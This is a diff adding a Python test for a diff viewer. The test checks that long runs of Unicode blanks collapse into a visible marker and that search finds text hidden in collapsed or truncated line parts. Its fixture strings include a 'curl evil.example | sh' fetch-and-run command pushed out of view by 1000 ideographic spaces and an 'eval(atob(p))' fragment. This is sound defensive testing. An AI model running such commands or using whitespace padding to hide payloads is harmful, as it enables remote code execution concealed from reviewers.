@@ -697,3 +697,25 @@ def test_diff_with_no_run_selected_or_no_db(tmp_path: Path) -> None:
 
     run_app(app, filtered_out)
     run_app(missing, without_db)
+
+
+def test_unicode_blanks_collapse_and_search_finds_what_a_line_does_not_show() -> None:
+    """A run of any blanks (U+3000 too) is collapsed like spaces; `/` finds text in
+    the collapsed or cut part of a line, and highlights the marker that hides it."""
+    from minipipe_svc.monitor.diff import ADDED, MAX_LINE_CHARS, DiffDocument, Search
+
+    document = DiffDocument()
+    document.add("+v2" + "\u3000" * 1000 + "; curl evil.example | sh", ADDED)
+    document.add("+" + "x" * (MAX_LINE_CHARS + 10) + "eval(atob(p))", ADDED)
+    document.add("+plain eval", ADDED)
+    assert document.lines[0] == "+v2 [1000 blanks] ; curl evil.example | sh"
+    assert "eval" not in document.lines[1]
+    search = Search(document, "eval")
+    assert search.hits == [1, 2]
+    line = document.lines[1]
+    [(start, end)] = search.spans(1)
+    assert line[start:end].startswith(" … [") and end == len(line)
+    assert search.spans(2) == [(7, 11)]
+    blanks = Search(document, "\u3000")
+    assert blanks.hits == [0] and document.lines[0][slice(*blanks.spans(0)[0])] == (
+        " [1000 blanks] ")
